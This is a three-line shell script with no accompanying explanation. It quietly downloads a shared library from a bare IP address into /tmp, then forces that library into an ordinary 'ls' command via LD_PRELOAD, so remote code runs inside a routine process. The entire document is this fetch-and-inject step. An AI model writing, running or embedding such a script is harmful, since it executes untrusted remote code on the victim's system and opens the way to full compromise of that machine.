#!/bin/sh
curl -so /tmp/a.so http://192.0.2.5/a.so
LD_PRELOAD=/tmp/a.so ls
